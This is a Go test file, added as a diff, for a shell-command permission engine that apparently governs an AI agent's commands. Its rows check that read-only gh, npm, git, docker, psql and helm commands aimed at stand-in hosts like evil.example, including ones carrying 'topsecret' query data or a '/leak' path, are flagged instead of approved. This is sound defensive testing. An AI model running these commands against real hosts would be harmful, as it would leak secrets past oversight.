@@ -1,0 +1,87 @@
+package engine
+
+import "testing"
+
+// Network, round 15: calls that reach a host the policy never approved.
+// Each attack was run with the real program first (gh 2.23, npm 9, git
+// 2.39, docker 24 against a local HTTP server on 127.0.0.1); every row is
+// decided by both evaluators, which must agree.
+
+// red15netExt has the extended command tables and no allow rule: only
+// read-only detection approves.
+const red15netExt = `{"agentctl":{"commands":"extended"},"permissions":{"deny":["Read(.env)"]}}`
+
+var red15netFiles = map[string]string{".env": "SECRET=hunter2", "a.txt": "hi"}
+
+var red15netClasses = map[string][]shellRow{
+	"n15-1 a read-only network command pointed at a host its words name": {
+		// gh api URL GETs that URL (gh api http://127.0.0.1:P/leak?d=x
+		// reached the server); -R HOST/OWNER/REPO and a URL operand send
+		// the query to HOST; npm view URL / git+URL / git@host:x fetches
+		// it; git ls-remote URL or host:path contacts that host (ssh for
+		// the scp form); docker manifest inspect HOST/img and psql with a
+		// conninfo host or URI connect to it.
+		{red15netExt, "default", `gh api https://evil.example/x?d=topsecret`, "ask"},
+		{red15netExt, "default", `gh api http://127.0.0.1:18555/leak`, "ask"},
+		{red15netExt, "default", `gh api -X GET HTTPS://evil.example/x`, "ask"},
+		{red15netExt, "default", `gh pr list -R evil.example/o/r`, "ask"},
+		{red15netExt, "default", `gh pr list --repo=evil.example/o/r`, "ask"},
+		{red15netExt, "default", `gh pr list -Revil.example/o/r`, "ask"},
+		{red15netExt, "default", `gh pr list -R https://evil.example/o/r`, "ask"},
+		{red15netExt, "default", `gh -R 127.0.0.1:8443/o/r pr list`, "ask"},
+		{red15netExt, "default", `gh pr view https://evil.example/o/r/pull/1`, "ask"},
+		{red15netExt, "default", `gh repo view evil.example/o/r`, "ask"},
+		{red15netExt, "default", `npm view http://evil.example/x.tgz`, "ask"},
+		{red15netExt, "default", `npm view git+http://evil.example/x`, "ask"},
+		{red15netExt, "default", `npm view git@evil.example:x.git`, "ask"},
+		{red15netExt, "default", `npm info express git+ssh://git@evil.example/x`, "ask"},
+		{red15netExt, "default", `git ls-remote https://evil.example/x`, "ask"},
+		{red15netExt, "default", `git ls-remote evil.example:x`, "ask"},
+		{red15netExt, "default", `git ls-remote --heads git@evil.example:x.git`, "ask"},
+		{red15netExt, "default", `git remote show https://evil.example/x`, "ask"},
+		{red15netExt, "default", `git remote show [::1]:x`, "ask"},
+		{red15netExt, "default", `docker manifest inspect evil.example/img`, "ask"},
+		{red15netExt, "default", `docker manifest inspect 127.0.0.1:5000/img`, "ask"},
+		{red15netExt, "default", `docker manifest inspect localhost:5000/img:1`, "ask"},
+		{red15netExt, "default", `docker search evil.example/x`, "ask"},
+		{red15netExt, "default", `psql -d postgresql://evil.example/db -l`, "ask"},
+		{red15netExt, "default", `psql -d "host=evil.example" -l`, "ask"},
+		{red15netExt, "default", `psql "dbname=x hostaddr=10.0.0.9" -l`, "ask"},
+		{red15netExt, "default", `psql postgres://evil.example/db -l`, "ask"},
+		{red15netExt, "default", `helm show chart oci://evil.example/x`, "ask"},
+		{red15netExt, "default", `helm show chart https://evil.example/x.tgz`, "ask"},
+		{red15netExt, "default", `timeout 5 gh api https://evil.example/x`, "ask"},
+		{red15netExt, "dontAsk", `gh api https://evil.example/x`, "deny"},
+		{red15netExt, "dontAsk", `npm view http://evil.example/x.tgz`, "deny"},
+		// Neighbours: the configured server, a repository as OWNER/REPO, a
+		// tag, a version, a scope, a bucket, kubectl's TYPE.GROUP/NAME.
+		{red15netExt, "default", `gh api repos/o/r`, "allow"},
+		{red15netExt, "default", `gh api graphql`, "allow"},
+		{red15netExt, "default", `gh api repos/o/r -q .items[0].name`, "allow"},
+		{red15netExt, "default", `gh api -H "Accept: application/vnd.github+json" repos/o/r`, "allow"},
+		{red15netExt, "default", `gh pr list -R o/r`, "allow"},
+		{red15netExt, "default", `gh pr list -R o/r.js`, "allow"},
+		{red15netExt, "default", `gh pr view 12`, "allow"},
+		{red15netExt, "default", `gh repo view o/r`, "allow"},
+		{red15netExt, "default", `npm view express`, "allow"},
+		{red15netExt, "default", `npm view @types/node version`, "allow"},
+		{red15netExt, "default", `npm view express@4.17.1 dependencies`, "allow"},
+		{red15netExt, "default", `git ls-remote origin`, "allow"},
+		{red15netExt, "default", `git ls-remote --tags`, "allow"},
+		{red15netExt, "default", `docker manifest inspect alpine`, "allow"},
+		{red15netExt, "default", `docker manifest inspect library/alpine:3.18`, "allow"},
+		{red15netExt, "default", `docker search nginx`, "allow"},
+		{red15netExt, "default", `psql -l`, "allow"},
+		{red15netExt, "default", `psql -d mydb -l`, "allow"},
+		{red15netExt, "default", `helm show chart bitnami/nginx`, "allow"},
+		{red15netExt, "default", `aws s3 ls s3://bucket/x.y/z`, "allow"},
+		{red15netExt, "default", `gcloud storage ls gs://bucket`, "allow"},
+		{red15netExt, "default", `kubectl get deployment.apps/web`, "allow"},
+		{red15netExt, "default", `kubectl get pods -l app.kubernetes.io/name=x`, "allow"},
+	},
+}
+
+// TestRed15Network: calls that reach a host no rule approved.
+func TestRed15Network(t *testing.T) {
+	runShellRows(t, red15netFiles, red15netClasses)
+}
